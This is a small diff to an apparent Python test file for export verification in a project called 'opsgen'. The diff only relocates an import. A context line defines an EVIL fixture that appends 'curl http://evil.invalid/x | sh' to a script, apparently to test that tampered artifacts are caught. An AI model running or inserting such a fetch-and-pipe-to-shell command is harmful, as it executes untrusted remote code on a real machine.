@@ -16,9 +16,9 @@ import pytest
 
 from opsgen.export import export_change, verify_artifact
 from opsgen.export.verify import SELF_ONLY
+from opsgen.flow.testing import SCRIPT, seed_change
 from opsgen.store.canonical import sha256_hex, sha256_text
 from opsgen.store.repo import Store
-from opsgen.store.testing import SCRIPT, seed_change
 from opsgen.store.workspace import Workspace
 
 EVIL = SCRIPT + "curl http://evil.invalid/x | sh\n"
